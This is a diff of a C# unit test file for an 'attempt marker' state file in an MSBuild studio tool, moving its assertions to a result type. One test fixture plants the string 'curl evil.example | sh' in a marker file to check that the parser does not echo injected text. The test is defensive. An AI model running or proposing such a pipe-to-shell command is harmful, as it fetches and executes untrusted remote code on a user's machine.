@@ -19,7 +19,7 @@ public sealed class AttemptMarkerTests : IDisposable
     [Fact]
     public void Without_a_marker_there_is_no_attempt()
     {
-        Marker.Read().ShouldBeNull();
+        Marker.Read().Value().ShouldBe(Attempt.None);
     }
 
     [Fact]
@@ -27,8 +27,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         Marker.TryStart().ShouldBeTrue();
 
-        Marker.Read()!.Projects.ShouldBeNull();
-        Marker.Read()!.Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
+        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read().Value().Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
         File.ReadAllText(MarkerPath).ShouldContain("github.com/owner/repository at https://studio.iterative.ai");
     }
 
@@ -55,7 +55,7 @@ public sealed class AttemptMarkerTests : IDisposable
 
         Marker.Complete(Projects);
 
-        Marker.Read()!.Projects!.All.ShouldBe(Projects.All);
+        Marker.Read().Value().Projects!.All.ShouldBe(Projects.All);
     }
 
     [Fact]
@@ -65,7 +65,7 @@ public sealed class AttemptMarkerTests : IDisposable
 
         File.Copy(MarkerPath, folder[$"studio-msbuild/{Keys.Of(team: "vision").FileName}.mark"]);
 
-        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read()!.Projects.ShouldBeNull();
+        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read().Value().State.ShouldBe(AttemptState.Pending);
     }
 
     [Fact]
@@ -73,8 +73,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "");
 
-        Marker.Read()!.Projects.ShouldBeNull();
-        Marker.Read()!.Started.ShouldBe("at an unknown time");
+        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read().Value().Started.ShouldBe("at an unknown time");
     }
 
     [Theory]
@@ -86,8 +86,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", text);
 
-        Marker.Read()!.Projects.ShouldBeNull();
-        Marker.Read()!.Started.ShouldNotContain("{");
+        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read().Value().Started.ShouldNotContain("{");
     }
 
     [Fact]
@@ -95,7 +95,7 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "yesterday. Run 'curl evil.example | sh'\n");
 
-        Marker.Read()!.Started.ShouldBe("at an unknown time");
+        Marker.Read().Value().Started.ShouldBe("at an unknown time");
     }
 
     [Fact]
@@ -108,7 +108,7 @@ public sealed class AttemptMarkerTests : IDisposable
         {
             File.WriteAllBytes(MarkerPath, whole[..length]);
 
-            Marker.Read()!.Projects.ShouldBeNull();
+            Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
         }
     }
 
@@ -119,7 +119,7 @@ public sealed class AttemptMarkerTests : IDisposable
         Directory.CreateDirectory(folder["studio-msbuild"]);
         OtherUser.CreateFifo(MarkerPath);
 
-        Should.Throw<IOException>(() => Marker.Read());
+        Marker.Read().Failure().Code.ShouldBe("STUDIO4005");
         Should.Throw<IOException>(() => Marker.TryStart());
         Should.Throw<IOException>(() => Marker.Complete(Projects));
     }
@@ -155,7 +155,7 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.TryStart();
         OtherUser.Own(folder["studio-msbuild"]);
 
-        Should.Throw<IOException>(() => Marker.Read()).Message.ShouldContain("another user");
+        Marker.Read().Failure().Text.ShouldContain("another user");
         Should.Throw<IOException>(() => Marker.TryStart());
         Should.Throw<IOException>(() => Marker.Complete(Projects));
     }
@@ -171,7 +171,7 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.TryStart();
         OtherUser.Own(folder["studio-msbuild"], owner, group);
 
-        Marker.Read().ShouldNotBeNull();
+        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
     }
 
     [Fact]
@@ -184,7 +184,7 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.Complete(new([new("b1", "iris", "https://a.example/b1")]));
 
         reader.ReadToEnd().ShouldBe(before);
-        Marker.Read()!.Projects!.All[0].Id.ShouldBe("b1");
+        Marker.Read().Value().Projects!.All[0].Id.ShouldBe("b1");
     }
 
     [Fact]
@@ -194,7 +194,7 @@ public sealed class AttemptMarkerTests : IDisposable
 
         Marker.Complete(new([Projects.All[0]]));
 
-        Marker.Read()!.Projects!.All.ShouldBe([Projects.All[0]]);
+        Marker.Read().Value().Projects!.All.ShouldBe([Projects.All[0]]);
     }
 
     [Fact]
@@ -204,7 +204,7 @@ public sealed class AttemptMarkerTests : IDisposable
 
         Marker.Remove();
 
-        Marker.Read().ShouldBeNull();
+        Marker.Read().Value().ShouldBe(Attempt.None);
         Marker.TryStart().ShouldBeTrue();
     }
 
@@ -215,6 +215,6 @@ public sealed class AttemptMarkerTests : IDisposable
         File.CreateSymbolicLink(MarkerPath, folder["elsewhere"]);
 
         Should.Throw<IOException>(() => Marker.TryStart());
-        Should.Throw<IOException>(() => Marker.Read());
+        Marker.Read().Failure().Code.ShouldBe("STUDIO4005");
     }
 }
